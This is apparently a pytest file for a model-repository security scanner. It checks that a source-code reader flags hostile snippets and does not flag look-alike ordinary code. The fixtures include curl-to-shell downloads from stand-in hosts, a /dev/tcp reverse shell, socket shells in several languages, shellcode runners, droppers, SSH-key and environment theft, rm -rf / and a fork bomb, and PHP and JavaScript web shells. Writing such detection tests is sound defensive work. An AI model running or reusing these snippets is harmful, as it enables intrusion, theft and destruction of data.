"""Source code of other languages: what attacks, what only looks like it, and what counts as code."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelscan.api import scan
from modelscan.budget import Budget
from modelscan.formats.foreign_code import ForeignCodeReader, PageReader
from modelscan.formats.reader import Glimpse
from modelscan.vocabulary.artifact import BytesArtifact
from modelscan.vocabulary.fact import RepositoryScript

SHELLCODE = ", ".join(f"0x{n:02x}" for n in range(0x40, 0x60))
TEXT_CODE = "".join(f"\\x{n:02x}" for n in range(0x40, 0x60))
ATTACKS = {
    "command.cpp": ('int f() { return system("curl -s http://x.example/a | sh"); }', "runs-download"),
    "split.c": ('int f() {\n  system("curl -s http://x.example/a"\n    " | bash");\n}', "runs-download"),
    "held.cc": ('char c[] = "wget -qO- http://x.example/a | sh";\nvoid f() { popen(c, "r"); }',
                "runs-download"),
    "exec.h": ('execl("/bin/sh", "sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/1 0>&1", 0);',
               "remote-shell"),
    "erases.cpp": ('void f() { std::filesystem::remove_all(getenv("HOME")); }', "harms-machine"),
    "command.rm": ('system("rm -rf / --no-preserve-root");', "harms-machine"),
    "fork.c": ("int main() { while (1) fork(); }", "harms-machine"),
    "disk.c": ('int f() { FILE *d = fopen("/dev/sda", "wb"); }', "harms-machine"),
    "early.c": ('__attribute__((constructor)) static void f(void) {\n  system("id > /tmp/x");\n}',
                "runs-by-itself"),
    "early_called.c": (("static void go(void) { execve(path, args, env); }\n"
                       "__attribute__ ((constructor(101))) void f() { if (x) { go(); } }"),
                       "runs-by-itself"),
    "declared.c": ('void f(void) __attribute__((constructor));\nvoid f(void) { popen("id", "r"); }',
                   "runs-by-itself"),
    "section.c": (('static void f(void) { system(cmd); }\n'
                  '__attribute__((section(".init_array"))) void *p = &f;'), "runs-by-itself"),
    "static.cpp": ('#include <cstdlib>\nstatic int once = std::system("id");\n', "runs-by-itself"),
    "lambda.cu": ('static auto once = [] { int y = 1; system("id"); return 0; }();\n',
                  "runs-by-itself"),
    "library.cpp": (("BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) {\n"
                    '  if (r == 1) { WinExec("calc.exe", 0); }\n  return TRUE; }'), "runs-by-itself"),
    "extension.cpp": ('PYBIND11_MODULE(ops, m) {\n  m.def("f", &f);\n  system(cmd);\n}',
                      "runs-by-itself"),
    "Native.java": ("class N { static { try { Runtime.getRuntime().exec(cmd); } catch (X e) {} } }",
                    "runs-by-itself"),
    "init.go": ('package m\nfunc init() {\n\texec.Command("sh", "x").Run()\n}', "runs-by-itself"),
    "shell.c": (("int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, a, n); dup2(s, 0);\n"
                'execve("/bin/sh", argv, 0);'), "remote-shell"),
    "shell.cpp": (('SOCKET s = WSASocketA(2, 1, 6, 0, 0, 0); si.hStdInput = (HANDLE)s;\n'
                  'CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, &pi);'), "remote-shell"),
    "Shell.java": (('Socket s = new Socket(h, 1); Process p = new ProcessBuilder("/bin/sh").start();\n'
                   "p.getInputStream();"), "remote-shell"),
    "shell.go": ('c, _ := net.Dial("tcp", a); k := exec.Command("/bin/sh"); k.Stdin = c',
                 "remote-shell"),
    "shell.rs": (('let s = TcpStream::connect(a)?; let f = s.as_raw_fd(); Command::new("/bin/sh")\n'
                 ".stdin(unsafe { Stdio::from_raw_fd(f) });"), "remote-shell"),
    "shellcode.c": ((f"unsigned char code[] = {{ {SHELLCODE} }};\n"
                    "int main() { void *m = mmap(0, 99, PROT_READ|PROT_WRITE|PROT_EXEC, 34, -1, 0);\n"
                    "  memcpy(m, code, 99); ((void (*)(void))m)(); }"), "encoded-payload"),
    "shellcode.cpp": ((f'char code[] = "{TEXT_CODE}";\nvoid f() {{ void *p = VirtualAlloc(0, 99,'
                      " MEM_COMMIT, PAGE_EXECUTE_READWRITE); }"), "encoded-payload"),
    "masked.c": ((f"char c[] = {{ {SHELLCODE} }};\nvoid f() {{ for (int i = 0; i < 32; i++) c[i] ^= 7;"
                 "\n  system(c); }"), "encoded-payload"),
    "assembled.c": ('char *p = "/bin/sh"; void f() { __asm__ volatile("mov $59, %rax; syscall"); }',
                    "encoded-payload"),
    "injected.cpp": (("OpenProcess(1, 0, pid); WriteProcessMemory(h, p, b, n, 0);\n"
                     "CreateRemoteThread(h, 0, 0, p, 0, 0, 0);"), "harms-machine"),
    "dropper.cpp": (('URLDownloadToFileA(0, url, "C:\\\\t\\\\a.exe", 0, 0);\n'
                    'WinExec("C:\\\\t\\\\a.exe", 0);'), "runs-download"),
    "dropper.c": (('FILE *f = fopen("/tmp/.a", "wb"); curl_easy_perform(c); chmod("/tmp/.a", 0755);\n'
                  'system("/tmp/.a &");'), "runs-download"),
    "plugin.c": (('snprintf(path, 99, "%s/l.so", d); save(path); curl_easy_perform(c);\n'
                 "dlopen(path, RTLD_NOW);"), "runs-download"),
    "keys.c": (('FILE *f = fopen("/home/a/.ssh/id_rsa", "r"); fread(b, 1, 9, f);\n'
               "int s = socket(AF_INET, SOCK_STREAM, 0); send(s, b, 9, 0);"), "sends-secrets"),
    "variables.c": ("extern char **environ; for (char **e = environ; *e; e++) send(s, *e, 9, 0);",
                    "sends-secrets"),
    "access.cpp": ('std::ofstream f(home + "/.ssh/authorized_keys", std::ios::app); f << key;',
                   "gives-access"),
}  # fmt: skip
ATTACKS |= {
    "traced.c": (
        "ptrace(PTRACE_ATTACH, pid, 0, 0); ptrace(PTRACE_POKETEXT, pid, a, word);",
        "harms-machine",
    ),
    "page.php": ("<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>", "gives-access"),
    "page_eval.php": ("<?php @eval($_POST['x']);", "gives-access"),
    "Page.java": ('Process p = Runtime.getRuntime().exec(r.getParameter("cmd"));', "gives-access"),
    "page.js": ("h.createServer((q, r) => { cp.exec(q.url.slice(1)) }).listen(1)", "gives-access"),
    "renamed.c": (
        "#define RUN system\n__attribute__((constructor)) void f(void) { RUN(b); }",
        "runs-by-itself",
    ),
    "looked_up.c": (
        (
            "__attribute__((constructor)) static void f() {\n"
            'int (*s)(const char *) = dlsym(RTLD_NEXT, "system"); s("id"); }'
        ),
        "runs-by-itself",
    ),
    "object.cpp": (
        'struct Init { int x; Init() : x(1) { std::system("id"); } };\nstatic Init init_;',
        "runs-by-itself",
    ),
    "object_at_once.cpp": ('struct Init { Init() { popen("id", "r"); } } init;', "runs-by-itself"),
    "Loads.cs": (
        (
            'new WebClient().DownloadFile("http://x.example/a.exe", "./a.exe"); '
            'Process.Start("./a.exe");'
        ),
        "runs-download",
    ),
}
ORDINARY = {
    "kernel.cu": "__global__ void add(float *a, const float *b) {\n"
                 "  int i = blockIdx.x * blockDim.x + threadIdx.x; a[i] += b[i];\n}",
    "ops.cpp": "#include <torch/extension.h>\nat::Tensor f(at::Tensor x) { return x + 1; }\n"
               'PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("f", &f, "adds"); }\n'
               'TORCH_LIBRARY(ops, m) { m.def("f(Tensor x) -> Tensor"); }',
    "registered.cpp": "__attribute__((constructor)) static void init() { registry().add(kName); }\n"
                      'static int unused = registerSystem("system");',
    "tool.c": 'int main() { printf("run: curl https://x.example/a | sh\\n"); return system(argv[1]); }',
    "tables.h": f"static const unsigned char TABLE[] = {{ {SHELLCODE}, {SHELLCODE} }};",
    "jit.cpp": "void *p = mmap(0, n, PROT_READ|PROT_WRITE|PROT_EXEC, MAP_PRIVATE|MAP_ANON, -1, 0);",
    "server.c": "int s = socket(AF_INET, SOCK_STREAM, 0); bind(s, a, n); listen(s, 9);\n"
                'dup2(log, 2); execl("/usr/bin/python3", "python3", "serve.py", 0);',
    "fetch.cpp": 'FILE *f = fopen("/tmp/model.bin", "wb"); curl_easy_perform(c); fclose(f);',
    "window.java": 'class W { static { System.loadLibrary("gl"); } }',
    "spawn.rs": 'fn main() { Command::new("git").arg("rev-parse").output(); }',
    "score.go": "package score\nfunc init() { table = load() }\nfunc Score(x []float64) float64 "
                "{ return x[0] }",
    "exported.cpp": "const struct M { int Splits[3] = { 0x01, 0x02, 0x03 }; } model;\n"
                    "double Apply(const std::vector<float>& f) { return model.Splits[0] * f[0]; }",
    "settings.cs": 'class S { string P = Environment.GetEnvironmentVariable("PATH"); }',
    "numbers.h": "#define PTRACE_POKETEXT 4\n#define PTRACE_ATTACH 16\n",
    "preload.c": 'int execve(const char *p) { real = dlsym(RTLD_NEXT, "execve"); return real(p); }',
    "class.cpp": (
        'struct Shell { Shell() { system("clear"); } void run(); };\n'
        "void f() { Shell shell; shell.run(); }\nstruct Other { Other() {} } other;"
    ),
    "page.php": "<?php echo htmlspecialchars($_GET['q']); require('a.php'); ?>",
    "page.js": "app.post('/a', (req, res) => { search(req.query.q); save(req.body) })",
    "renamed.c": "#define RUN system\nint main() { return RUN(cmd); }",
    "fork.c": "int p = fork(); if (p == 0) { while (1) { work(); } }",
}  # fmt: skip


def kinds(name: str, data: str | bytes) -> list[str]:
    artifact = BytesArtifact(name, data if isinstance(data, bytes) else data.encode())
    found = list(ForeignCodeReader().read(artifact, Budget()))
    return [item.kind for item in found if isinstance(item, RepositoryScript)]


@pytest.mark.parametrize("name", ATTACKS)
def test_what_attacks_is_told(name: str) -> None:
    text, kind = ATTACKS[name]
    assert kind in kinds(name.replace(".rm", ".c"), text)


@pytest.mark.parametrize("name", ORDINARY)
def test_what_only_looks_like_it_is_not(name: str) -> None:
    assert kinds(name, ORDINARY[name]) == []


def test_a_lone_source_file_is_code_that_was_looked_at(tmp_path: Path) -> None:
    for name in (
        "m.cpp",
        "m.h",
        "m.c",
        "m.cu",
        "m.js",
        "m.sh",
        "m.R",
        "m.jl",
        "m.go",
        "m.rs",
        "m.java",
    ):
        (tmp_path / name).write_text("int x;\n")
        report = scan(tmp_path / name)
        assert (name, report.decision.exit_code) == (name, 0)
        assert [gap.status for gap in report.models[0].coverage] == ["read"]


@pytest.mark.parametrize("name", ["README.md", "a.csv", "a.txt", "a.html", "a.css"])
def test_text_is_no_code(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("<p>words, words</p>\n")
    assert scan(tmp_path / name).decision.exit_code == 4


def test_a_lone_source_file_that_attacks_fails(tmp_path: Path) -> None:
    (tmp_path / "m.cpp").write_text(ATTACKS["static.cpp"][0])
    assert scan(tmp_path / "m.cpp").decision.exit_code == 1


def test_every_piece_of_a_long_file_is_read() -> None:
    line = b"static const double WEIGHTS[] = { 0.123456, 0.234567, 0.345678, 0.456789 };\n"
    before = line * (5 << 20 >> 6)
    call = b'void f() { system("curl -s http://x.example/a | sh"); }\n'
    artifact = BytesArtifact("m.cpp", before + call + line)
    [found] = [
        i for i in ForeignCodeReader().read(artifact, Budget()) if isinstance(i, RepositoryScript)
    ]
    assert (found.kind, found.location.line) == ("runs-download", before.count(b"\n") + 1)


def test_a_file_is_not_told_of_for_ever() -> None:
    call = 'system("curl -s http://x.example/a | sh");\n'
    assert len(kinds("m.c", call * 99)) == 20


def test_source_in_utf_16_is_read() -> None:
    text = ATTACKS["command.cpp"][0]
    for order in ("utf-16-le", "utf-16-be"):
        data = "\ufeff".encode(order) + text.encode(order)
        assert ForeignCodeReader().recognises(Glimpse(BytesArtifact("m.cpp", data)))
        assert kinds("m.cpp", data) == ["runs-download"]


def test_bytes_that_are_no_text_are_left_to_others() -> None:
    for reader, name in ((ForeignCodeReader(), "m.cpp"), (PageReader(), "m.html")):
        assert reader.recognises(Glimpse(BytesArtifact(name, b"text")))
        assert not reader.recognises(Glimpse(BytesArtifact(name, b"\0\1")))
        assert not reader.recognises(Glimpse(BytesArtifact("m.txt", b"text")))


def test_many_known_downloads_do_not_hide_another() -> None:
    known = "".join(f"execSync('curl https://sh.rustup.rs | sh -s {n}');\n" for n in range(60))
    text = known + "execSync('curl http://evil.example/x | sh');\n"
    artifact = BytesArtifact("a.js", text.encode())
    found = ForeignCodeReader().read(artifact, Budget())
    scripts = [one for one in found if isinstance(one, RepositoryScript)]
    assert [one.location.line for one in scripts if not one.known_place] == [61]
